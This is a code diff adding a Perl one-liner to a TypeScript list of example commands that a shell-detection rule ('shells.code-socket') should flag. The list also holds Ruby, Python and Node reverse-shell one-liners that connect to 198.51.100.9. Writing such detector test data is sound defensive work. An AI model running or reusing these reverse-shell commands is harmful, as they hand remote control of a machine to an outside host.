@@ -3,6 +3,7 @@ import type { RuleExamples } from './rule-examples.ts';
 export const SHELLS_EXAMPLES: RuleExamples = {
   'shells.code-socket': {
     fires: [
+      `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"198.51.100.9:80");STDIN->fdopen($c,r);system$_ while<>;'`,
       'ruby -rsocket -e \'spawn("zsh", in: TCPSocket.new("198.51.100.9", 80))\'',
       'python3 -c \'from socket import *; import os; s=socket(); s.connect(("198.51.100.9",80)); os.dup2(s.fileno(),0); os.system("dash")\'',
       'node -e \'const n=require("net"),c=require("child_process").spawn("ksh");const s=n.connect(80,"198.51.100.9");s.pipe(c.stdin)\'',
